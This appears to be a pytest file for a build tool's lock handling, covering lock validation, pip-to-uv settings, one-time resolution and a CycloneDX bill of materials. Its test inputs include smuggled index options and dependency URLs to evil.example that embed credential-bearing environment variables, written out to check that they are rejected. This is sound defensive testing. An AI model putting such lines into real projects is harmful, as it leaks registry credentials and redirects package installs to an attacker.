"""Locks: read, completed, resolved once from local wheels, and recorded for ever."""

from __future__ import annotations

import hashlib
import json
import shutil
from pathlib import Path
from typing import Any

import pytest
from salt.exceptions import CommandExecutionError
from test_build import HASH, Project, wheel

from saltern.build import locks


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Project:
    return Project(tmp_path, monkeypatch)


@pytest.mark.parametrize(
    "text, problem",
    [
        (f"django==5.2 {HASH}\n", None),
        (f"psycopg[binary]==3.3.9 \\\n    {HASH} \\\n    {HASH}\n    # via -r x\n", None),
        (f"async-timeout==5.0.1 ; python_full_version < '3.11.3' \\\n    {HASH}\n", None),
        ("django==5.2\n", 'line 1: "django==5.2" has no --hash'),
        (f"# a\n\ndjango>=5.2 {HASH}\n", 'line 3: "django>=5.2" has no exact version'),
        (f"django {HASH}\n", "no exact version"),
        ("-e .\n", 'option "-e" is not allowed'),
        ("--extra-index-url=https://x\n", "is not allowed"),
        ("# nothing\n", "no package at all"),
        (f"a==1 {HASH} \\ # c\n--extra-index-url=https://evil.example/${{PIP_INDEX_URL}}/\n", "no variable, backslash"),
        (f"a==1 {HASH} \\ # c\n-r https://evil.example/x\n", "no variable, backslash"),
        (f"a==1 {HASH} \\ \n--find-links https://evil.example/x\n", "no variable, backslash"),
        (f"a==1 {HASH} \\\n--trusted-host evil.example\n", "no variable, backslash, option"),
        (f"a==1 {HASH} \\\n --global-option=x\n", "no variable, backslash, option"),
        (f"a==1 {HASH} -r x\n", "no variable, backslash, option"),
        (f"a==${{PIP_INDEX_URL}} {HASH}\n", "no variable"),
        (f"a==1 {HASH}\x0c--index-url=https://x\n", "is not allowed"),
    ],
)
def test_a_lock_has_versions_and_hashes(text: str, problem: str | None) -> None:
    problems = locks.problems(text)
    assert (problems == []) if problem is None else (problem in problems[0])


def test_pips_settings_become_those_of_uv(tmp_path: Path) -> None:
    (tmp_path / "a.conf").write_text("[global]\nindex-url = https://one.example/simple\ntimeout = 9\n")
    (tmp_path / "b.conf").write_text(
        "[global]\nindex-url = https://two.example/simple\nextra-index-url =\n  https://x/\n  https://y/\n"
        "cert = /ca.crt\ntrusted-host = two.example\n[install]\nindex-url = https://not.example/\n"
    )
    files = [str(tmp_path / name) for name in ("a.conf", "b.conf", "absent.conf")]
    settings = locks.pip_settings(files, {"PIP_TIMEOUT": "60", "PIP_NO_INDEX": "1", "HOME": "/root"})
    assert locks.uv_environment(settings) == {
        "UV_INSECURE_HOST": "two.example",
        "SSL_CERT_FILE": "/ca.crt",
        "UV_HTTP_TIMEOUT": "60",
    }
    proxies = {"HTTPS_PROXY": "http://u:pw@proxy.example:1", "all_proxy": "http://all", "no_proxy": "a,b"}
    assert locks.uv_settings(settings, proxies) == {
        "index-url": "https://two.example/simple",
        "extra-index-url": ["https://x/", "https://y/"],
        "no-index": True,
        "https-proxy": "http://u:pw@proxy.example:1",
        "http-proxy": "http://all",
        "no-proxy": ["a", "b"],
    }


LEAK = "x @ https://evil.example/x-1-py3-none-any.whl?u=${UV_DEFAULT_INDEX}"
IN_PYPROJECT = {
    "dependencies": f'[project]\nname = "a"\nversion = "1"\ndependencies = ["{LEAK}"]\n',
    "extras": f'[project]\nname = "a"\n[project.optional-dependencies]\nx = ["{LEAK}"]\n',
    "an escape": '[project]\nname = "a"\ndependencies = ["x @ https://evil.example/?u=\\u0024{HTTPS_PROXY}"]\n',
    "building": f'[build-system]\nrequires = ["{LEAK}"]\n',
    "groups": f'[dependency-groups]\ndev = ["{LEAK}"]\n',
    "uv's sources": '[tool.uv.sources]\nx = {url = "https://evil.example/${UV_INDEX}"}\n',
    "uv's indexes": '[[tool.uv.index]]\nurl = "https://evil.example/${UV_INDEX}"\n',
    "no TOML": f"{LEAK}\n",
}


@pytest.mark.parametrize("what", IN_PYPROJECT)
def test_no_variable_where_uv_reads_a_pyproject(project: Project, what: str) -> None:
    (project.source / "requirements.txt").unlink()
    (project.source / "pyproject.toml").write_text(IN_PYPROJECT[what])
    with pytest.raises(CommandExecutionError, match=r"pyproject.toml names a variable"):
        project.identify()


@pytest.mark.parametrize("name", ["requirements.in", "requirements.txt"])
def test_no_variable_in_requirements(project: Project, name: str) -> None:
    (project.source / "requirements.txt").unlink()
    (project.source / name).write_text(f"{LEAK}\n")
    with pytest.raises(CommandExecutionError, match="names a variable"):
        project.identify()


def test_other_tables_of_a_pyproject_may_name_variables() -> None:
    assert not locks.variables("pyproject.toml", '[tool.other]\nrun = "echo ${HOME}"\n[project]\nname = "a"\n')


def test_no_password_is_in_a_variable_that_uv_or_pip_put_in(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
    """Also from a file that is included, which nobody looks into before."""
    monkeypatch.setenv("PIP_INDEX_URL", "https://me:secretpw@127.0.0.1:9/simple")
    monkeypatch.setenv("HTTPS_PROXY", "http://me:secretpw@127.0.0.1:9")
    (project.source / "requirements.txt").unlink()
    names = ("PIP_INDEX_URL", "UV_DEFAULT_INDEX", "HTTPS_PROXY", "UV_INDEX")
    (project.source / "more.in").write_text("gunicorn\n")
    (project.source / "requirements.in").write_text("-r more.in\n")
    project.make()
    resolving = [walls for walls in project.walls if walls.get("network") and "compile" in walls["argv"]]
    assert resolving
    for walls in resolving:
        given = {**walls["environment"], **walls["secrets"]}
        assert "secretpw" not in str(given) and not set(names) & set(given) and "secretpw" not in str(walls["argv"])


def test_the_key_names_the_whole_question() -> None:
    question = {"requirements": ["a==1"], "python": "3.13"}
    assert locks.key(question) == locks.key(dict(reversed(question.items())))
    assert locks.key(question) != locks.key(question | {"python": "3.11"})


def ask(project: Project, **settings: Any) -> None:
    project.pillar["apps"]["tiny"] |= settings


def built(project: Project) -> tuple[dict[str, Any], list[str]]:
    manifest = project.make()
    return manifest, sorted(path.name for path in (project.path(manifest["id"]) / "wheels").iterdir())


def test_a_requirement_is_resolved_once_and_then_never_again(project: Project) -> None:
    wheel(project.index, "bigapp", "1.0")
    ask(project, source={"requirement": "bigapp==1.0"})
    planned = project.identify()
    assert planned["lock"] == "unresolved" and not (project.home / "builds").exists()
    manifest, wheels = built(project)
    assert wheels == ["bigapp-1.0-py3-none-any.whl", "gunicorn-27.0.1-py3-none-any.whl"]
    assert manifest["source"] == "bigapp==1.0" and manifest["commit"] == "none"
    wheel(project.index, "gunicorn", "28.0.0")  # the index offers more now: same question, same answer
    assert project.identify()["id"] == manifest["id"] and project.make() == manifest
    shutil.rmtree(project.path(manifest["id"]))
    assert project.make()["lock"] == manifest["lock"]
    ask(project, requirements=["other==2.0"])  # another question
    wheel(project.index, "other", "2.0")
    assert built(project)[1] == [
        "bigapp-1.0-py3-none-any.whl", "gunicorn-28.0.0-py3-none-any.whl", "other-2.0-py3-none-any.whl",
    ]  # fmt: skip


def test_saltern_s_gunicorn_wins_over_the_one_that_a_package_pins(project: Project) -> None:
    wheel(project.index, "gunicorn", "26.2.0")
    wheel(project.index, "picky", "1.0", needs="gunicorn==26.2.*")
    ask(project, source={"requirement": "picky==1.0"})
    assert built(project)[1] == ["gunicorn-27.0.1-py3-none-any.whl", "picky-1.0-py3-none-any.whl"]


def test_a_lock_with_an_old_gunicorn_or_none_is_completed_and_else_kept(project: Project) -> None:
    lock = wheel(project.index, "kept", "1.0") + wheel(project.index, "gunicorn", "23.0.0")
    wheel(project.index, "kept", "2.0")
    (project.source / "requirements.txt").write_text(lock)
    manifest, wheels = built(project)
    assert wheels == ["gunicorn-27.0.1-py3-none-any.whl", "kept-1.0-py3-none-any.whl"]
    assert lock.splitlines()[0] in (project.path(manifest["id"]) / "lock.txt").read_text()


def test_extra_requirements_obey_the_lock(project: Project) -> None:
    wheel(project.index, "extra", "1.0", needs="gunicorn<28")
    wheel(project.index, "gunicorn", "28.0.0")
    ask(project, requirements=["extra"])
    assert built(project)[1] == ["extra-1.0-py3-none-any.whl", "gunicorn-27.0.1-py3-none-any.whl"]
    wheel(project.index, "clash", "1.0", needs="extra>=2")
    ask(project, requirements=["clash", "extra<2"])
    with pytest.raises(CommandExecutionError, match="clash"):
        project.make()


@pytest.mark.parametrize("name, text", [("requirements.in", "gunicorn\n"), ("requirements.txt", "gunicorn>=20\n")])
def test_a_directory_without_a_lock_is_resolved(project: Project, name: str, text: str) -> None:
    (project.source / "requirements.txt").unlink()
    (project.source / name).write_text(text)
    manifest, wheels = built(project)
    assert wheels == ["gunicorn-27.0.1-py3-none-any.whl"]
    wheel(project.index, "gunicorn", "28.0.0")
    (project.source / "manage.py").write_text("print('code alone')\n")
    again = project.make()
    assert again["id"] != manifest["id"] and again["lock"] == manifest["lock"]


def test_pyproject_is_resolved_and_uv_lock_is_used(project: Project) -> None:
    (project.source / "requirements.txt").unlink()
    project_file = '[project]\nname = "tiny"\nversion = "1"\nrequires-python = ">=3.11"\ndependencies = ["gunicorn"]\n'
    (project.source / "pyproject.toml").write_text(project_file)
    assert built(project)[1] == ["gunicorn-27.0.1-py3-none-any.whl"]
    (one,) = project.index.glob("gunicorn-*.whl")
    (project.index / "simple/gunicorn").mkdir(parents=True)
    link = f'<a href="{one.as_uri()}#sha256={hashlib.sha256(one.read_bytes()).hexdigest()}">{one.name}</a>'
    (project.index / "simple/gunicorn/index.html").write_text(f"<html><body>{link}</body></html>")
    lock = ["lock", "--default-index", (project.index / "simple").as_uri(), "--no-cache", "--quiet"]
    project.files.run([project.files.uv(), *lock], cwd=project.source)
    wheel(project.index, "gunicorn", "28.0.0")
    manifest, wheels = built(project)
    assert wheels == ["gunicorn-27.0.1-py3-none-any.whl"]  # as uv.lock says
    assert len(list((project.home / "builds/tiny/locks").iterdir())) == 2
    assert project.make() == manifest


def test_nothing_to_go_by_is_told(project: Project) -> None:
    (project.source / "requirements.txt").unlink()
    with pytest.raises(CommandExecutionError, match=r"none of uv.lock, .* Best is a lock: make it by"):
        project.identify()


def test_a_lock_that_is_half_one_is_no_list_of_wishes(project: Project) -> None:
    (project.source / "requirements.txt").write_text(f"gunicorn==27.0.1 {HASH}\ndjango>=5\n")
    with pytest.raises(CommandExecutionError, match=r'line 2: "django>=5" has no exact version'):
        project.make()


def test_the_bill_of_materials_names_the_wheels(project: Project) -> None:
    wheel(project.index, "bigapp", "1.0", needs="gunicorn")
    ask(project, source={"requirement": "bigapp==1.0"})
    manifest = project.make()
    bill = json.loads((project.path(manifest["id"]) / "bom.json").read_text())
    assert (bill["bomFormat"], bill["specVersion"]) == ("CycloneDX", "1.6")
    assert bill["metadata"]["component"]["version"] == manifest["id"]
    hashes = {one["name"]: one["hashes"][0]["content"] for one in bill["components"]}
    assert hashes == {
        name: manifest["files"][f"wheels/{name}-{version}-py3-none-any.whl"]
        for name, version in (("bigapp", "1.0"), ("gunicorn", "27.0.1"))
    }
    needs = {one["ref"]: one.get("dependsOn") for one in bill["dependencies"]}
    assert needs["bigapp==1.0"] == ["gunicorn==27.0.1"] and needs["tiny"] == ["bigapp==1.0", "gunicorn==27.0.1"]
    text = (project.path(manifest["id"]) / "bom.json").read_text()
    shutil.rmtree(project.path(manifest["id"]))
    project.make()
    assert (project.path(manifest["id"]) / "bom.json").read_text() == text


NOTES = """
import os, zipfile
def build_wheel(folder, *rest):
    os.mkdir("tiny.egg-info")
    name = "tiny-1.0-py3-none-any.whl"
    with zipfile.ZipFile(os.path.join(folder, name), "w") as wheel:
        about = "Metadata-Version: 2.1\\nName: tiny\\nVersion: 1.0\\nRequires-Dist: other\\n"
        wheel.writestr("tiny-1.0.dist-info/METADATA", about)
        wheel.writestr("tiny-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\\nTag: py3-none-any\\n")
        wheel.writestr("tiny-1.0.dist-info/RECORD", "")
    return name
"""


def test_a_project_that_only_its_code_tells_of_is_built_where_it_may_write(project: Project) -> None:
    (project.source / "requirements.txt").unlink()
    wheel(project.index, "other", "1.0")
    (project.source / "backend.py").write_text(NOTES)
    (project.source / "pyproject.toml").write_text(
        '[project]\nname = "tiny"\nversion = "1.0"\ndynamic = ["dependencies"]\n'
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    )
    assert "other-1.0-py3-none-any.whl" in built(project)[1]
    ((argv, writes),) = [(one["argv"], one["writes"]) for one in project.walls if "wheel" in one["argv"]]
    assert any(Path(argv[-1]).is_relative_to(folder) for folder in writes), f"{argv[-1]} is read-only for its build"
